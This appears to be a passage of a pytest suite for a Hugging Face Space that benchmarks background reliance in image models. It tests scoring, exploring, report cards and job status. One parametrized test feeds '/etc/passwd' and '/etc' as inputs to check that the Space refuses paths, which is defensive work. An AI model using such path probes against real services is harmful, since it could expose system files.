    clip_fixtures.as_hub_cache(folder, cache, "someone/tiny-clip")
    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(cache))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("HF_BGBENCH_CACHE", str(tmp_path / "cache"))  # the text step runs
    # the Space's templates (OpenAI's set) cut to one: the same step, 80 times fewer prompts
    monkeypatch.setattr(open_clip, "OPENAI_IMAGENET_TEMPLATES", ("a photo of a {}.",))
    _job(monkeypatch, running.run_job)  # the Space's job function, in a thread
    shown: list = []
    outputs = list(
        tab_score.score(
            "someone/tiny-clip",
            "in9-local",
            ["mixed_same", "mixed_rand"],
            False,
            progress=lambda value, desc=None, **kw: shown.append((value, desc, kw.get("unit"))),
        )
    )
    out = dict(zip(SCORE_OUTPUTS, outputs[-1], strict=True))
    assert "Done in" in out["status"] and "BG-GAP" in out["report"]
    files = {Path(f).name: Path(f) for f in out["files"]}
    results = json.loads(files["results.json"].read_text())
    assert results["zero_shot"]["num_classes"] == 1000
    assert results["zero_shot"]["templates"] == ["a photo of a {}."]
    # the text step: named, counted in classes, from its start to its end, before the images
    step = "embedding the class prompts"
    assert ((0, 1000), step, "classes") in shown and ((1000, 1000), step, "classes") in shown
    descs = [desc for _, desc, _ in shown]
    assert descs.index(step) < descs.index("in9/mixed_same")
    statuses = [o[0] for o in outputs]
    assert any(f"{step} — 1000/1000 (100%)" in s for s in statuses), statuses
    assert not any("scoring —" in s for s in statuses)  # never shown as an unnamed bar


def test_a_vlm_hub_model_is_scored_by_the_default_rule(space, tmp_path, monkeypatch):
    """A generative VLM's Hub repo (a tiny Qwen2-VL in the local Hub cache, the Hub off)
    passes the Space's checks and is scored by the Space's own job function with the
    default rule (likelihood over the benchmark's classes), which its results record."""
    from huggingface_hub import constants

    from tests.clip_fixtures import as_hub_cache
    from tests.vlm_fixtures import write_qwen2_vl

    cache = tmp_path / "hub"
    as_hub_cache(write_qwen2_vl(tmp_path / "model"), cache, "someone/tiny-vlm")
    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(cache))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    _job(monkeypatch, running.run_job)  # the Space's job function, in a thread
    outputs = list(
        tab_score.score(
            "someone/tiny-vlm",
            "in9-local",
            ["mixed_same", "mixed_rand"],
            False,
            progress=lambda *a, **k: None,
        )
    )
    out = dict(zip(SCORE_OUTPUTS, outputs[-1], strict=True))
    assert "Done in" in out["status"] and "BG-GAP" in out["report"]
    assert "generative VLM, likelihood rule" in out["report"]
    files = {Path(f).name: Path(f) for f in out["files"]}
    results = json.loads(files["results.json"].read_text())
    assert results["vlm"]["protocol"] == "likelihood"
    assert results["model_resolved"] == f"transformers:someone/tiny-vlm@{'a' * 40}"
    # the visitor's rule (Score tab, or the API's vlm_rule) reaches the task and the command
    outputs = list(
        tab_score.score(
            "someone/tiny-vlm",
            "in9-local",
            ["mixed_same"],
            False,
            vlm_rule="open",
            progress=lambda *a, **k: None,
        )
    )
    out = dict(zip(SCORE_OUTPUTS, outputs[-1], strict=True))
    files = {Path(f).name: Path(f) for f in out["files"]}
    assert json.loads(files["results.json"].read_text())["vlm"]["protocol"] == "open"
    assert "--vlm-protocol open" in out["report"] and "open rule" in out["report"]
    # ... and a model that is no VLM is told the rule is not its own
    _colour_rule(monkeypatch)
    with pytest.raises(gr.Error, match="the VLM rule applies only to generative"):
        _final(
            tab_score.score(
                "tf_efficientnet_lite0",
                "in9-local",
                ["original"],
                False,
                vlm_rule="choice",
                progress=_quiet,
            )
        )


def test_the_space_takes_no_zero_shot_classes_or_templates_from_a_visitor(space):
    """A template FILE would be a path on the server: the Space offers neither option, so
    every zero-shot model is scored with the library's defaults (ImageNet's 1000 class names,
    OpenAI's 80 templates), which every result records."""
    assert not {"templates", "zero_shot_classes"} & set(
        inspect.signature(tab_score.score).parameters
    )
    for task in ("evaluate", "challenge", "noise", "saliency"):
        options = task_options(task, ["original"], False)
        assert not {"templates", "zero_shot_classes"} & set(options)


def colour_rule_explore(model_id, options):
    from hf_bgbench.space.views.explore import explore_image
    from tests.in9_fixture import ColourRuleClassifier

    return explore_image(ColourRuleClassifier(), **options)


def _explore_in_process(monkeypatch):
    from hf_bgbench.space.jobs.process import ThreadJob

    def job(model_id, options):
        return ThreadJob(colour_rule_explore, (model_id, options), seconds=300, track=False)

    monkeypatch.setattr(running, "explore_job_for", job)


def test_explore_shows_an_image_in_every_variant_with_predictions(space, monkeypatch):
    from tests.in9_fixture import VARIANTS

    update = tab_explore.images_of("in9-local", "in9")
    choices = update["choices"]
    assert len(choices) == 18 and update["value"] == choices[0][1]
    shown_label, image_id = choices[-1]
    assert shown_label.endswith(f" · {image_id}")
    _explore_in_process(monkeypatch)
    gallery, summary = _final(
        tab_explore.explore("tf_efficientnet_lite0", "in9-local", "in9", image_id, progress=_quiet)
    )
    assert [caption.split(":")[0] for _, caption in gallery] == list(VARIANTS)
    assert all(re.search(r": [✓✗] .+ \d+%$", caption) for _, caption in gallery)
    assert all(image.shape == (224, 224, 3) for image, _ in gallery)
    assert image_id in summary and f"of {len(VARIANTS)} variants" in summary


def test_explore_lists_every_image_and_narrows_to_a_class(tmp_path, monkeypatch):
    """A dataset of more images than gradio's dropdown shows at first (100): the list holds
    all of them at once, and the class filter offers each class and narrows the list to it;
    a class the dataset lacks is refused by name."""
    import gradio as gr

    from hf_bgbench.benchmarks import get_benchmark
    from hf_bgbench.space.views.explore import EVERY_CLASS
    from tests.in9_fixture import write_release

    release = write_release(tmp_path / "many", ("original", "mixed_rand"), per_class=12)
    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", f"in9-many={release}")
    update = tab_explore.images_of("in9-many", "in9")
    assert len(update["choices"]) == 108 and update["value"] == update["choices"][0][1]
    # gradio 6 renders a dropdown's first 100 choices (an older gradio, all of them)
    assert update.get("num_choices_shown", 108) >= 108
    assert update["info"].startswith("108 images listed")
    classes = tab_explore.classes_of("in9-many", "in9")
    assert classes["choices"][0] == EVERY_CLASS and classes["value"] == EVERY_CLASS
    assert classes["choices"][1:] == list(get_benchmark("in9").classes)
    fish = tab_explore.images_of("in9-many", "in9", "fish")
    assert [i for _, i in fish["choices"]] == [i for _, i in update["choices"][96:]]
    assert all(label.startswith("fish · ") for label, _ in fish["choices"])
    assert tab_explore.images_of("in9-many", "in9", EVERY_CLASS)["choices"] == update["choices"]
    with pytest.raises(gr.Error, match="No image of class 'whale'"):
        tab_explore.images_of("in9-many", "in9", "whale")


@pytest.mark.parametrize(
    ("model", "dataset", "image", "said"),
    [
        ("/etc/passwd", "in9-local", "x", "paths and links are refused"),
        ("tf_efficientnet_lite0", "/etc", "x", "Pick a dataset from the list"),
        ("tf_efficientnet_lite0", "in9-local", "", "Pick an image from the list"),
        ("tf_efficientnet_lite0", "in9-local", "no-such-id", "holds an image with id"),
    ],
)
def test_explore_refuses_what_it_must(space, monkeypatch, model, dataset, image, said):
    import gradio as gr

    _explore_in_process(monkeypatch)
    with pytest.raises(gr.Error, match=said) as info:
        _final(tab_explore.explore(model, dataset, "in9", image, progress=_quiet))
    assert info.value.visible is False  # said on the tab's own line, no toast


def test_a_hub_id_in_the_allow_list_is_never_read_as_a_folder(tmp_path, monkeypatch):
    (tmp_path / "acme" / "in9").mkdir(parents=True)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", "in9=acme/in9")
    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path / "leaderboard"))
    _load_app()
    calls: list = []
    _colour_rule(monkeypatch, calls)
    import gradio as gr

    with pytest.raises(gr.Error, match="not in the local Hugging Face cache"):
        _final(
            tab_score.score("tf_efficientnet_lite0", "in9", ["original"], False, progress=_quiet)
        )
    ((_, _, options),) = calls
    assert options["data"].kind == "hub" and options["data"].location == "acme/in9"


def colour_rule_report(model_id, allowed, output_dir):
    """What the report job runs in these tests: the colour-rule classifier's report over the
    allow-listed datasets (the library's report, as the Space calls it)."""
    from hf_bgbench.report.card import run_report
    from hf_bgbench.space.views.report_card import report_data
    from tests.in9_fixture import ColourRuleClassifier

    data = report_data(allowed)
    return run_report(
        ColourRuleClassifier(), output_dir, data=data, benchmarks=list(data), num_workers=0
    )


def test_pug_imagenet_from_its_hub_dataset_shows_the_worlds(tmp_path, monkeypatch, shared_data):
    """PUG: ImageNet allow-listed by its Hub id, read from the cache: the report shows the
    accuracy per world and the world spread, the plot of the worlds comes back, and the
    samples come from the Hub table's own images."""
    import shutil

    import huggingface_hub.constants as hub_constants

    from hf_bgbench.tasks.evaluate import evaluate_model
    from tests.pug_fixture import write_pug

    repo = tmp_path / "hub" / "datasets--facebook--PUG_ImageNet"
    write_pug(tmp_path / "src", shared_data)
    shutil.copytree(tmp_path / "src", repo / "snapshots" / ("e" * 40))
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text("e" * 40)
    monkeypatch.setattr(hub_constants, "HF_HUB_CACHE", str(tmp_path / "hub"))
    allow_list = "pug-imagenet=facebook/PUG_ImageNet"
    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", allow_list)
    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path / "leaderboard"))
    _app_for(allow_list)

    def run(task, model_id, options):
        return evaluate_model(model_id, **options | {"use_cache": False, "device": "cpu"})

    _job(monkeypatch, run)
    out = _scored(
        "tf_efficientnet_lite0",
        "pug-imagenet",
        ["worlds"],
        False,
        "pug-imagenet",
        progress=_quiet,
    )
    assert "Accuracy per world (worlds), worst first:" in out["report"]
    assert "spread across worlds" in out["report"]
    files = {Path(f).name for f in out["files"]}
    assert "worlds.png" in files and "results.json" in files
    assert "<img" in out["samples"]


def test_imagenet_d_from_its_hub_dataset_is_scored(tmp_path, monkeypatch):
    """An allow-list entry naming the authors' Hub dataset (its own release layout, not
    configs) is read from its snapshot by ImageNet-D's reader: accuracy per subset."""
    import huggingface_hub.constants as hub_constants

    from hf_bgbench.tasks.evaluate import evaluate_model
    from tests.imagenet_d_fixture import (
        IndexColourClassifier,
        as_hub_cache,
        authors_classifier_accuracy,
        write_imagenet_d,
    )

    as_hub_cache(write_imagenet_d(tmp_path / "src"), tmp_path / "hub")
    monkeypatch.setattr(hub_constants, "HF_HUB_CACHE", str(tmp_path / "hub"))
    allow_list = "imagenet-d=zcs15/ImageNet-D"
    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", allow_list)
    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path / "leaderboard"))
    _app_for(allow_list)

    def run(task, model_id, options):
        return evaluate_model(IndexColourClassifier(), **options | {"use_cache": False})

    _job(monkeypatch, run)
    subsets = ["background", "texture", "material"]
    out = _scored(
        "tf_efficientnet_lite0", "imagenet-d", subsets, False, "imagenet-d", progress=_quiet
    )
    files = {Path(f).name: Path(f) for f in out["files"]}
    results = json.loads(files["results.json"].read_text())
    for subset in subsets:
        assert results["variants"][subset]["accuracy"] == authors_classifier_accuracy(subset)
        assert f"| {subset} |" in out["report"]
    assert results["data"]["kind"] == "imagenet-d-release" and "Done in" in out["status"]


def test_the_report_cards_status_line_moves_while_its_job_runs(in9_release, tmp_path, monkeypatch):
    """Fixed: the line was drawn once and said "checking the model … 0 s" for a whole
    18-minute card. Every tick redraws it: the stage after the checks, and the clock."""
    import time

    from hf_bgbench.space.jobs.process import ThreadJob

    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", f"in9-local={in9_release}")
    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path / "leaderboard"))
    _load_app()

    def slow_report(*args):
        time.sleep(3.5)  # a card that takes a while before its first progress bar
        return colour_rule_report(*args)

    monkeypatch.setattr(
        tab_report, "Job", lambda fn, args, **kw: ThreadJob(slow_report, args, seconds=300)
    )
    lines = [u[0] for u in tab_report.report_card("tf_efficientnet_lite0", progress=_quiet)]
    running = [line for line in lines if "each benchmark's task in turn" in line]
    clocks = {re.search(r"(\d+) s since the start", line).group(1) for line in running}
    assert len(running) >= 3 and len(clocks) >= 2, lines
    assert "Done in" in lines[-1]


def test_space_report_card_renders_the_report_section(in9_release, tmp_path, monkeypatch):
    from hf_bgbench.space.jobs.process import ThreadJob
    from tests.in9_fixture import EXPECTED_BG_GAP

    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", f"in9-local={in9_release}")
    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path / "leaderboard"))
    _load_app()
    monkeypatch.setattr(
        tab_report, "Job", lambda fn, args, **kw: ThreadJob(colour_rule_report, args, seconds=300)
    )
    status, section, figure, files, button = _final(
        tab_report.report_card("tf_efficientnet_lite0", progress=_quiet)
    )
    assert "Done in" in status and button["interactive"] is True
    assert f"| IN-9 | BG-GAP (pts) ↓ | {100 * EXPECTED_BG_GAP:.1f} [" in section
    assert "0.2 – 14.2 (5 models)" in section  # beside the published models
    assert "](reliance_profile.png)" not in section
    assert '<img src="data:image/png;base64,' in figure and "reliance_profile.png" in figure
    # a benchmark without data is said, not silently dropped
    assert "This Space offers no data for ImageNet-D, ImageNet-E, PUG: ImageNet, RIVAL10" in section
    # its runs enter the leaderboard as Score's do
    assert "Added to the leaderboard (colour-rule-imagenet-1k, evaluate on in9-local)" in section
    rows = read_rows(tmp_path / "leaderboard")
    assert {(r["model"], r["task"]) for r in rows} >= {("colour-rule-imagenet-1k", "evaluate")}
    # the `bgbench report` command that makes the same card, the caps as the
    # tasks' own flags, the server folder by its allow-list name
    from hf_bgbench.space.views.report_card import report_caps

    caps = report_caps(["in9"])["challenge"]
    reproduce = section.split("### Reproduce this", 1)[1]
    assert "The same report.json on your machine" in reproduce
    assert (
        "bgbench report tf_efficientnet_lite0 --benchmarks in9 --data in9=in9-local "
        f"--task-option challenge.max-foregrounds={caps['max_foregrounds']} "
        f"--task-option challenge.max-backgrounds={caps['max_backgrounds']}\n"
    ) in reproduce
    assert "`in9-local` is this Space's own copy of the data" in reproduce
    # the report's own files, no bookkeeping file; no eval results: a local copy was scored
    names = {Path(f).name for f in files}
    assert names == {"report.md", "report.json", "reliance_profile.png"}
    for f in files:  # nothing the visitor downloads or reads names a server path
        if f.endswith((".md", ".json", ".yaml")):
            assert str(in9_release) not in Path(f).read_text()
    assert str(in9_release) not in section
    # its list of files names only what the page offers: no task folder
    listed = re.findall(r"^- `([^`]+)`", section.split("### Files", 1)[1], re.M)
    assert listed and set(listed) <= names, listed
    # the time limit counts the tasks that run: IN-9's report tasks only (the other
    # benchmarks have no data here)
    in9_tasks = set(get_benchmark("in9").report_tasks)
    assert tab_report.report_seconds() == sum(job_seconds(t) for t in in9_tasks)


def test_the_report_card_offers_the_files_the_report_wrote(space, tmp_path):
    """Eval-results files are offered (a download has no folders: by a flat name) when the
    report wrote them -- as report.json lists them --, never the folder's bookkeeping file,
    and the report's list of files names what is offered."""
    out = tmp_path / "report"
    (out / ".eval_results").mkdir(parents=True)
    (out / ".eval_results" / "in9.yaml").write_text("- task: in9\n")
    (out / ".eval_results" / ".bgbench-manifest.json").write_text("{}")
    (out / "report.json").write_text(json.dumps({"eval_results": [".eval_results/in9.yaml"]}))
    (out / "reliance_profile.png").write_bytes(b"png")
    (out / "report.md").write_text(
        "# Report\n\n### Files\n\n- `in9/evaluate/`: the evaluate task's results\n"
        "- `.eval_results/in9.yaml`: Hub evaluation results\n"
        "- `report.json`: everything above\n\n### After\n\n- `x/`: kept\n"
    )
    files = tab_report.report_files(out, {})
    assert [Path(f).name for f in files] == [
        "report.md",
        "report.json",
        "eval_results_in9.yaml",
        "reliance_profile.png",
    ]
    text = Path(files[0]).read_text()
    assert "in9/evaluate/" not in text and "`eval_results_in9.yaml`" in text
    assert "`report.json`" in text and "- `x/`: kept" in text  # other sections untouched


def test_a_step_whose_first_batches_are_slow_is_not_stopped_when_its_pace_fits():
    """A step's first 8 images take 30 s (workers start, the model warms up), then it
    scores 8 images a second: from the start its pace says ~15 min for 992 images; its
    steady pace says ~2 min, which fits the 3 minutes left. A step slow all along is
    stopped, once it has run long enough to trust."""
    from hf_bgbench.space.jobs.status import JobStatus

    now = [0.0]
    status = JobStatus("score", 600, clock=lambda: now[0])
    status.bar("in9/original", 0, 1000)
    for n in range(8, 72, 8):  # 8 at 30 s, then 8 a second
        now[0] = 30.0 + (n - 8) / 8
        status.bar("in9/original", n, 1000)
    assert status.eta() > 180 * 2  # the pace from the start: far over the limit
    assert status.steady_eta() == pytest.approx((1000 - 64) / 8)
    assert status.cannot_finish(180, settle=30) == ""
    slow = JobStatus("score", 600, clock=lambda: now[0])
    now[0] = 0.0
    slow.bar("in9/original", 0, 1000)
    for n in range(1, 10):  # one image every 4 s, all along
        now[0] = 4.0 * n
        slow.bar("in9/original", n, 1000)
    assert slow.cannot_finish(180, settle=30).startswith("The job was stopped early")


def test_the_whole_jobs_estimate_once_a_step_has_finished():
    """Three variants, one bar each: while the first runs only its own estimate is said;
    once it has finished (20 s), the line adds the whole job's: the current step's time left
    plus the step not begun at 20 s."""
    from hf_bgbench.space.jobs.status import JobStatus

    now = [0.0]
    status = JobStatus("evaluate", 600, clock=lambda: now[0], steps=3)
    for n in (0, 10, 20):
        now[0] = float(n)
        status.bar("in9/original", n, 20)
    assert status.whole_eta() is None and "left in all" not in status.markdown()
    assert "step 1 of 3" in status.markdown()
    now[0] = 20.0
    status.bar("in9/mixed_same", 0, 20)
    now[0] = 30.0
    status.bar("in9/mixed_same", 10, 20)  # 10 s for the other 10 images of this step
    assert status.whole_eta() == pytest.approx(10 + 20)
    text = status.markdown()
    assert "step 2 of 3" in text and "about 30 s left in all" in text


@pytest.mark.parametrize(
    "allow_list, offered, first",
    [
        ("in9-local=/srv/in9", ["in9"], "in9"),
        ("imagenet-d=zcs15/ImageNet-D", ["imagenet-d"], "imagenet-d"),
        ("in9=bgbench/in9,rival10=bgbench/rival10", ["in9", "rival10"], "in9"),
    ],
)
def test_the_benchmark_menus_offer_what_the_allow_list_holds(
    allow_list, offered, first, monkeypatch
):
    """A benchmark the operator listed no dataset for is not offered (its menu would lead
    only to "no data"); the page starts on the default benchmark when it is offered."""
    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", allow_list)
    demo = build_demo()
    menus = [b for b in demo.blocks.values() if getattr(b, "label", None) == "Benchmark"]
    held = [m for m in menus if [v for _, v in m.choices] == offered]
    assert len(held) == 3  # Score, Explore, Compare (the leaderboard lists every benchmark)
    assert all(m.value == first for m in held)


def test_the_api_lists_what_a_visitor_calls_with_defaults_that_belong_together(space):
    """The "Use via API" page lists the six visitor endpoints, not the page's own callbacks
    (menus, checks, the status line), and each one's defaults name one benchmark's things."""
    from hf_bgbench.space.page.demo import PUBLIC_ENDPOINTS
    from hf_bgbench.space.views.flips import flip_pairs

    info = build_demo().get_api_info()["named_endpoints"]
    assert sorted(info) == sorted(f"/{name}" for name in PUBLIC_ENDPOINTS)
    defaults = {
        p["parameter_name"]: p.get("parameter_default") for p in info["/flips"]["parameters"]
    }
    pairs = [p.name for p in flip_pairs(get_benchmark(defaults["benchmark"]))]
    assert defaults["pair_name"] in pairs


def test_the_status_clock_ticks_while_the_model_is_checked(space, monkeypatch):
    """A slow check (a model's size read from the Hub) keeps redrawing the status line, its
    clock moving, instead of freezing it until the check returns."""
    import threading

    import gradio as gr

    from hf_bgbench.space.checks.messages import SpaceRefusal

    release = threading.Event()
    clock = iter(range(1000))

    def slow_check(*args):
        release.wait(30)
        raise SpaceRefusal("checked")

    monkeypatch.setattr(tab_score, "checked_inputs", slow_check)
    monkeypatch.setattr(running, "TICK_SECONDS", 0.01)

    class Counted(tab_score.JobStatus):  # a clock that moves a second each time it is read
        def __init__(self, title, limit, **kw):
            super().__init__(title, limit, clock=lambda: float(next(clock)), **kw)

    monkeypatch.setattr(tab_score, "JobStatus", Counted)
    seen = []
    with pytest.raises(gr.Error, match="checked"):
        for update in tab_score.score("tf_efficientnet_lite0", "in9-local", ["original"], False):
            seen.append(update[0])
            if len(seen) == 4:
                release.set()  # three redraws while the check ran: let it end
    checking = [s for s in seen[:4] if "Now: checking the model and the dataset" in s]
    assert len(checking) == 4
    times = [s.split("\n\n")[2] for s in checking]
    assert len(set(times)) == 4  # a different time on each redraw


def test_every_stop_brings_the_buttons_label_back():
    """Stop (and the job's ``.then`` after it) sets the job's button back to its idle label
    on every press, not on the first only: Gradio pops ``value`` out of the update dict a
    function returns (``postprocess_update_dict``), so an update shared between calls comes
    back without its label the second time, and the button read "Scoring…" over an idle
    page after any later Stop."""
    from gradio.blocks import postprocess_update_dict

    with gr.Blocks() as demo:
        status = gr.Markdown()
        run = gr.Button("Run")
        stop = gr.Button("Stop")
        job = run.click(lambda: None, None, None, queue=False).success(
            lambda: gr.update(value="Running…"), None, run
        )
        queueing.stop_button(stop, job, status, run, "Run")
    said = [f for f in demo.fns.values() if len(f.outputs) == 3 and f.outputs[1] is run]
    assert len(said) == 2  # Stop's click and the job's .then
    for fn in said:
        for press in range(3):
            out = fn.fn() if not fn.inputs else fn.fn(True)
            assert out[0] == "**Stopped** at your request.", press
            update = postprocess_update_dict(run, out[1])  # as Gradio does with it
            assert update.get("value") == "Run", (press, update)


def test_reproduce_this_says_how_to_install_what_the_space_runs(monkeypatch):
    """Fixed: it said `pip install hf-bgbench`, which no package index serves."""
    from hf_bgbench import __version__
    from hf_bgbench.space.views.reproduce import reproduce_markdown

    monkeypatch.setenv("SPACE_ID", "owner/bgbench")
    text = reproduce_markdown(["bgbench evaluate m"])
    wheel = f"spaces/owner/bgbench/resolve/main/wheels/hf_bgbench-{__version__}-py3-none-any.whl"
    assert f"pip install https://huggingface.co/{wheel}" in text
    monkeypatch.delenv("SPACE_ID")
    assert "`pip install -e .` in a checkout" in reproduce_markdown(["bgbench evaluate m"])
    assert "pip install hf-bgbench" not in reproduce_markdown(["bgbench evaluate m"])
